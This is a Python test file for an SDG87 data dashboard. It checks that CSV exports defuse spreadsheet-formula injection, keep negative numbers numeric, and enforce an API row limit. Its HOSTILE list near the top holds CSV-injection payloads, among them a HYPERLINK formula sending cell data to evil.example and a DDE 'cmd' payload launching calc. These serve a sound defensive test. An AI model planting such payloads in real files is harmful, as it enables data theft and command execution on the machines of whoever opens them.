"""CSV/spreadsheet exports: OWASP CSV injection is neutralised in text cells, numbers stay numbers, and the
/api/v1 row limit (SDG87_EXPORT_ROW_LIMIT) refuses oversized extracts with a clear 400.

Unit tests cover pipelines.export (the `sdg87 export` writer) and dashboard.api.batch_to_csv (the streamed
/api/v1 writer); end-to-end tests run the real server on a copy of the real warehouse into which rows with
hostile footnotes and negative values were inserted.
"""
from __future__ import annotations

import contextlib
import csv
import io
import os
import shutil
import subprocess
import sys

import duckdb
import pandas as pd
import pyarrow as pa
import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dashboard.api import batch_to_csv
from pipelines.export import FORMULA_START, neutral, neutralise, to_csv_bytes

from .logged_server import logged_server

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB=1",
           "\rCR=1", "=cmd|' /C calc'!A0", "-"]
HARMLESS = ["plain text", "Survey 2019 (MICS)", " =leading space", "'already quoted", "", "5-17", "<18"]


def parse_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# ---- pipelines.export (sdg87 export) -------------------------------------------------------------------

def test_neutral_prefixes_every_formula_start():
    for text in HOSTILE:
        assert neutral(text) == "'" + text
    for text in HARMLESS:
        assert neutral(text) == text
    for number in (-1, -2.5, 0, 3.25, None):
        assert neutral(number) == number


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_neutral_never_leaves_a_formula_start(text):
    out = neutral(text)
    assert out in (text, "'" + text)
    assert not out.startswith(FORMULA_START)
    assert (out != text) == text.startswith(FORMULA_START)


def test_neutralise_text_columns_only():
    frame = pd.DataFrame({
        "text": ["=1+2", "+3", "-4", "@x", "\tt", "\rr", "ok"],
        "value": [-1.5, -2.0, 0.0, 3.0, -0.001, 1e-9, -1e12],
        "count": [-1, -2, 3, 4, 5, 6, -7],
        "mixed": ["-5", -5, 5.5, None, "=A1", "x", -0.5],
        "category": pd.Categorical(["-a", "b", "=c", "d", "e", "f", "@g"]),
        "string": pd.array(["-s", None, "s", "+t", "u", "v", "w"], dtype="string"),
    })
    out = neutralise(frame)
    assert list(out["text"]) == ["'=1+2", "'+3", "'-4", "'@x", "'\tt", "'\rr", "ok"]
    pd.testing.assert_series_equal(out["value"], frame["value"])
    pd.testing.assert_series_equal(out["count"], frame["count"])
    assert list(out["mixed"])[:4] == ["'-5", -5, 5.5, None] and out["mixed"][4] == "'=A1"
    assert list(out["category"]) == ["'-a", "b", "'=c", "d", "e", "f", "'@g"]
    assert out["string"][0] == "'-s" and pd.isna(out["string"][1]) and out["string"][3] == "'+t"
    assert list(frame["text"])[0] == "=1+2", "the input frame is not modified"


def test_to_csv_bytes_keeps_negative_numbers_numeric():
    frame = pd.DataFrame({"footnote": HOSTILE, "value": [-1.5 - i for i in range(len(HOSTILE))],
                          "year": list(range(2000, 2000 + len(HOSTILE)))})
    rows = parse_csv(to_csv_bytes(frame).decode("utf-8"))
    assert [r["footnote"] for r in rows] == ["'" + h for h in HOSTILE]
    assert [r["value"] for r in rows] == [str(-1.5 - i) for i in range(len(HOSTILE))]
    assert all(float(r["value"]) < 0 for r in rows)
    assert [r["year"] for r in rows] == [str(y) for y in range(2000, 2000 + len(HOSTILE))]


# ---- dashboard.api.batch_to_csv (streamed /api/v1 CSV) -------------------------------------------------

def test_batch_to_csv_neutralises_text_and_keeps_numbers():
    batch = pa.record_batch({
        "footnote": pa.array(HOSTILE + HARMLESS + [None]),
        "value": pa.array([-(i + 0.5) for i in range(len(HOSTILE) + len(HARMLESS))] + [None], pa.float64()),
        "year": pa.array([2000 + i for i in range(len(HOSTILE) + len(HARMLESS))] + [None], pa.int32()),
        "unit": pa.array(["-"] * (len(HOSTILE) + len(HARMLESS) + 1)).dictionary_encode(),
    })
    text = ",".join(batch.schema.names) + "\r\n" + batch_to_csv(batch)
    rows = parse_csv(text)
    n = len(HOSTILE)
    assert [r["footnote"] for r in rows[:n]] == ["'" + h for h in HOSTILE]
    assert [r["footnote"] for r in rows[n:-1]] == HARMLESS
    assert [r["value"] for r in rows[:-1]] == [str(-(i + 0.5)) for i in range(len(rows) - 1)]
    assert rows[-1]["value"] == "" and rows[-1]["year"] == ""
    # integers stay integers even in a batch with nulls (no "2000.0")
    assert [r["year"] for r in rows[:-1]] == [str(2000 + i) for i in range(len(rows) - 1)]
    assert {r["unit"] for r in rows} == {"'-"}, "dictionary-encoded text is neutralised too"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.text(max_size=30), st.floats(allow_nan=False, allow_infinity=False, width=64)),
                min_size=1, max_size=20))
def test_batch_to_csv_property(rows):
    texts, values = zip(*rows)
    batch = pa.record_batch({"t": pa.array(list(texts), pa.string()), "v": pa.array(list(values), pa.float64())})
    parsed = parse_csv("t,v\r\n" + batch_to_csv(batch))
    assert len(parsed) == len(rows)
    for (text, value), row in zip(rows, parsed):
        assert not row["t"].startswith(FORMULA_START)
        assert float(row["v"]) == value, "numbers are written as numbers, unchanged"


# ---- end to end: real server, real warehouse with hostile rows ----------------------------------------

@pytest.fixture(scope="module")
def hostile_warehouse(warehouse, tmp_path_factory):
    """A copy of the real warehouse with current observations whose footnotes are formulas and values negative."""
    path = tmp_path_factory.mktemp("hostile") / "sdg87.duckdb"
    shutil.copy(warehouse, path)
    con = duckdb.connect(str(path))
    try:
        base = con.execute("""SELECT series, geo FROM observations WHERE is_current AND geo = 'NGA'
                              ORDER BY series LIMIT 1""").fetchone()
        assert base, "the real warehouse has no current observation for NGA"
        for i, note in enumerate(HOSTILE):
            con.execute("""INSERT INTO observations
                           SELECT * REPLACE (1901 + ? AS year, ? AS footnote, ? AS value, ? AS lower)
                           FROM observations WHERE is_current AND series = ? AND geo = ? LIMIT 1""",
                        [i, note, -(i + 0.5), -(i + 10.25), *base])
        n_series, n_geos = con.execute("SELECT (SELECT count(*) FROM series), (SELECT count(*) FROM geographies)"
                                        ).fetchone()
    finally:
        con.close()
    assert n_geos > max(n_series, len(HOSTILE)), "the row-limit tests need more geographies than series"
    return path, base


@pytest.fixture(scope="module")
def row_limit(hostile_warehouse):
    """A tiny limit: the series catalogue fits exactly (the server fixture waits on /api/v1/series.csv),
    the geographies do not."""
    path, _ = hostile_warehouse
    with contextlib.closing(duckdb.connect(str(path), read_only=True)) as con:
        return max(con.execute("SELECT count(*) FROM series").fetchone()[0], len(HOSTILE))


@pytest.fixture(scope="module")
def hostile_server(hostile_warehouse, row_limit):
    path, _ = hostile_warehouse
    with logged_server(path, path.with_suffix(".log"), env={"SDG87_EXPORT_ROW_LIMIT": str(row_limit)}) as base:
        yield base


def test_streamed_csv_neutralises_hostile_cells(hostile_server, hostile_warehouse):
    _, (series, geo) = hostile_warehouse
    r = requests.get(f"{hostile_server}/api/v1/observations.csv",
                     params={"series": series, "geo": geo, "to": 1901 + len(HOSTILE)}, timeout=60)
    assert r.status_code == 200, r.text
    assert r.headers["Content-Type"].startswith("text/csv")
    rows = [row for row in parse_csv(r.content.decode("utf-8")) if int(row["year"]) < 1901 + len(HOSTILE)]
    assert len(rows) == len(HOSTILE)
    assert sorted(row["footnote"] for row in rows) == sorted("'" + h for h in HOSTILE)
    assert sorted(float(row["value"]) for row in rows) == sorted(-(i + 0.5) for i in range(len(HOSTILE)))
    for row in rows:
        assert row["value"].startswith("-") and not row["value"].startswith("'"), "negative numbers stay numeric"
        assert row["lower"].startswith("-") and float(row["lower"]) < -10
        assert row["year"].isdigit()
    text_columns = {"series", "geo", "geo_name", "sex", "age", "unit", "nature", "source", "edition", "footnote",
                    "raw_file", "raw_sha256", "raw_sheet"}
    for row in rows:
        for column in text_columns:
            assert not (row[column] or "").startswith(FORMULA_START), (column, row[column])


def test_parquet_keeps_hostile_text_verbatim(hostile_server, hostile_warehouse):
    """Parquet is typed data, not a spreadsheet: the text is exported exactly as published."""
    import pyarrow.parquet as pq

    _, (series, geo) = hostile_warehouse
    r = requests.get(f"{hostile_server}/api/v1/observations.parquet",
                     params={"series": series, "geo": geo, "to": 1901 + len(HOSTILE)}, timeout=60)
    assert r.status_code == 200, r.text
    table = pq.read_table(io.BytesIO(r.content))
    notes = [n for n, y in zip(table["footnote"].to_pylist(), table["year"].to_pylist()) if y < 1901 + len(HOSTILE)]
    assert sorted(notes) == sorted(HOSTILE)


def test_cli_export_neutralises(hostile_warehouse):
    path, (series, geo) = hostile_warehouse
    out = subprocess.run([sys.executable, "-m", "pipelines.cli", "export", "observations", "--warehouse", str(path),
                          "--series", series, "--geo", geo, "--to", str(1900 + len(HOSTILE))],
                         capture_output=True, timeout=120)
    assert out.returncode == 0, out.stderr.decode()
    rows = [row for row in parse_csv(out.stdout.decode("utf-8"))]
    assert sorted(row["footnote"] for row in rows) == sorted("'" + h for h in HOSTILE)
    assert all(float(row["value"]) < 0 for row in rows)


# ---- row limit -----------------------------------------------------------------------------------------

def test_row_limit_refuses_with_clear_message(hostile_server, row_limit):
    for path in ("/api/v1/geographies.csv", "/api/v1/geographies.parquet", "/api/v1/observations.csv"):
        r = requests.get(hostile_server + path, timeout=60)
        assert r.status_code == 400, path
        assert r.headers["Content-Type"].startswith("text/plain")
        assert f"above the limit of {row_limit:,} rows" in r.text
        assert "narrow it with series, geo, sex, age, from or to" in r.text
        assert "Traceback" not in r.text


def test_row_limit_allows_extracts_up_to_the_limit(hostile_server, row_limit):
    r = requests.get(f"{hostile_server}/api/v1/series.csv", timeout=60)
    assert r.status_code == 200, r.text
    assert len(parse_csv(r.text)) == int(r.headers["X-SDG87-Rows"]) <= row_limit
    r = requests.get(f"{hostile_server}/api/v1/geographies.csv", params={"geo": "NGA,WLD"}, timeout=60)
    assert r.status_code == 200, r.text
    assert len(parse_csv(r.text)) == 2
    assert r.headers["X-SDG87-Rows"] == "2"


def test_bad_row_limit_setting_is_refused_at_start():
    env = {**os.environ, "SDG87_EXPORT_ROW_LIMIT": "lots"}
    out = subprocess.run([sys.executable, "-c", "import dashboard.api"], env=env, capture_output=True, timeout=120)
    assert out.returncode != 0
    assert b"SDG87_EXPORT_ROW_LIMIT" in out.stderr
